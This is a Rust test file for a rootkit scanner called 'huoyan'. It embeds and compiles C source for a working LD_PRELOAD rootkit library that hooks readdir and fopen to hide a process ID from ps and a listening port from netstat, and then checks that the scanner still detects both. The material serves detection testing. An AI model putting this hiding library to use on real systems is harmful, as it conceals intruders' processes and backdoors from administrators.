//! Live test of issue 6: an LD_PRELOAD rootkit library (C source written here, compiled with cc)
//! hides a chosen PID from `readdir` and a chosen port from `/proc/net/tcp` read through `fopen`.
//! Under the preload, `ps` misses the process and `netstat` misses the port; huoyan (static, raw
//! getdents64, direct /proc/net reads) still sees both, and `rootkit.preload_hooks` names the
//! library and the processes that have it loaded.

use std::path::{Path, PathBuf};
use std::process::{Child, Command};

use huoyan_checks::{run_checks, Context, Selection};
use huoyan_core::{ProcFs, Root, Severity, Window};

const HIDER_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* Test rootkit for huoyan: hides HUOYAN_HIDE_PID from directory listings and the local port
   HUOYAN_HIDE_PORT (4 hex digits) from /proc/net/tcp read through fopen. */

static int hide_name(const char *name) {
    const char *pid = getenv("HUOYAN_HIDE_PID");
    return pid != NULL && strcmp(name, pid) == 0;
}

struct dirent *readdir(DIR *dir) {
    static struct dirent *(*real)(DIR *) = NULL;
    if (!real) real = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    do { e = real(dir); } while (e != NULL && hide_name(e->d_name));
    return e;
}

struct dirent64 *readdir64(DIR *dir) {
    static struct dirent64 *(*real)(DIR *) = NULL;
    if (!real) real = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    do { e = real(dir); } while (e != NULL && hide_name(e->d_name));
    return e;
}

static FILE *filtered(FILE *in, const char *port) {
    char needle[16];
    snprintf(needle, sizeof needle, ":%s ", port);
    size_t cap = 1 << 20, len = 0;
    char *buf = malloc(cap);
    char line[1024];
    int first = 1;
    while (buf && fgets(line, sizeof line, in)) {
        /* local_address is the second column: drop lines whose local port matches */
        char *local = strchr(line, ':');
        int drop = !first && local && strstr(local + 1, needle) == strchr(local + 1, ':');
        first = 0;
        size_t n = strlen(line);
        if (!drop && len + n < cap) { memcpy(buf + len, line, n); len += n; }
    }
    fclose(in);
    return fmemopen(buf, len ? len : 1, "r");
}

static FILE *hook_fopen(const char *sym, const char *path, const char *mode) {
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, sym);
    FILE *f = real(path, mode);
    const char *port = getenv("HUOYAN_HIDE_PORT");
    if (f && port && strncmp(path, "/proc/net/tcp", 13) == 0) return filtered(f, port);
    return f;
}

FILE *fopen(const char *path, const char *mode) { return hook_fopen("fopen", path, mode); }
FILE *fopen64(const char *path, const char *mode) { return hook_fopen("fopen64", path, mode); }
"#;

struct Kill(Vec<Child>);
impl Drop for Kill {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn build_hider(dir: &Path) -> Option<PathBuf> {
    let src = dir.join("hider.c");
    std::fs::write(&src, HIDER_C).expect("write C source");
    let lib = dir.join("libhider.so");
    let ok = Command::new("cc")
        .args(["-shared", "-fPIC", "-O1", "-o"])
        .arg(&lib)
        .arg(&src)
        .arg("-ldl")
        .status()
        .is_ok_and(|s| s.success());
    ok.then_some(lib)
}

fn ps_pids(preload: Option<&Path>, hide: u32) -> Vec<u32> {
    let mut cmd = Command::new("ps");
    cmd.args(["-e", "-o", "pid="])
        .env("HUOYAN_HIDE_PID", hide.to_string());
    if let Some(lib) = preload {
        cmd.env("LD_PRELOAD", lib);
    }
    let out = cmd.output().expect("run ps");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter_map(|s| s.parse().ok())
        .collect()
}

fn netstat_shows(preload: Option<&Path>, port: u16) -> Option<bool> {
    let mut cmd = Command::new("netstat");
    cmd.args(["-tln"])
        .env("HUOYAN_HIDE_PORT", format!("{port:04X}"));
    if let Some(lib) = preload {
        cmd.env("LD_PRELOAD", lib);
    }
    let out = cmd.output().ok()?;
    Some(String::from_utf8_lossy(&out.stdout).contains(&format!("127.0.0.1:{port} ")))
}

#[test]
fn preload_rootkit_fools_ps_and_netstat_but_not_huoyan() {
    let Some(proc_fs) = ProcFs::live() else {
        eprintln!("no /proc: live test skipped");
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let Some(lib) = build_hider(dir.path()) else {
        panic!("cc could not build the test library (install gcc, see .ci/packages/integrity.txt)");
    };
    // The process to hide, and a process that has the rootkit library loaded (as every process
    // does when /etc/ld.so.preload names it).
    let target = Command::new("sleep").arg("300").spawn().expect("sleep");
    let target_pid = target.id();
    let carrier = Command::new("sleep")
        .arg("300")
        .env("LD_PRELOAD", &lib)
        .spawn()
        .expect("sleep with preload");
    let carrier_pid = carrier.id();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let _guard = Kill(vec![target, carrier]);
    std::thread::sleep(std::time::Duration::from_millis(300));

    // ps without the preload sees the target, ps under the preload does not.
    assert!(ps_pids(None, target_pid).contains(&target_pid));
    assert!(
        !ps_pids(Some(&lib), target_pid).contains(&target_pid),
        "the preload library did not hide pid {target_pid} from ps"
    );
    // huoyan lists /proc with raw getdents64 and is static: it sees the pid.
    assert!(proc_fs.pids().expect("pids").contains(&target_pid));

    // The same library hides the listener from netstat (which reads /proc/net/tcp via fopen) …
    if let (Some(plain), Some(hooked)) =
        (netstat_shows(None, port), netstat_shows(Some(&lib), port))
    {
        assert!(plain, "netstat does not show the test listener at all");
        assert!(
            !hooked,
            "the preload library did not hide port {port} from netstat"
        );
    } else {
        eprintln!("netstat not installed: port-hiding half shown only through huoyan's view");
    }
    // … but huoyan reads /proc/net/tcp itself and sees the port, so it is not "hidden" from
    // huoyan: the userland hook is exposed by rootkit.preload_hooks instead.
    let (tcp, _) = huoyan_checks::rootkit::hidden_ports::listed_ports(&proc_fs).expect("net");
    assert!(tcp.contains(&port));

    let mut ctx = Context::new(Root::host(), Window::default());
    ctx.proc_fs = Some(proc_fs);
    let outcome = run_checks(
        &ctx,
        &Selection {
            only: vec!["rootkit.preload_hooks".into()],
            skip: vec![],
            deep: false,
        },
    );
    let lib_text = lib.display().to_string();
    let hit = outcome
        .findings
        .iter()
        .find(|f| f.paths.contains(&lib_text))
        .unwrap_or_else(|| panic!("library not reported: {:#?}", outcome.findings));
    assert_eq!(hit.severity, Severity::Critical);
    assert!(hit.pids.contains(&carrier_pid), "{hit:#?}");
    assert!(hit.summary.contains("readdir") && hit.summary.contains("fopen"));
    drop(listener);
}

#[test]
fn kernel_style_port_hiding_is_caught_by_the_bind_probe() {
    // A rootkit that filters /proc/net in the kernel leaves the port taken in the bind table.
    // Simulate its filtered view of /proc/net (the listener's line removed) and probe live.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let Some(proc_fs) = ProcFs::live() else {
        return;
    };
    let filtered_view = || {
        let (mut tcp, udp) = huoyan_checks::rootkit::hidden_ports::listed_ports(&proc_fs).ok()?;
        tcp.remove(&port);
        Some((tcp, udp))
    };
    let hidden =
        huoyan_checks::rootkit::hidden_ports::find_hidden_ports(&filtered_view, port..=port)
            .expect("view");
    assert_eq!(
        hidden,
        vec![(huoyan_checks::rootkit::hidden_ports::Proto::Tcp, port)]
    );
}
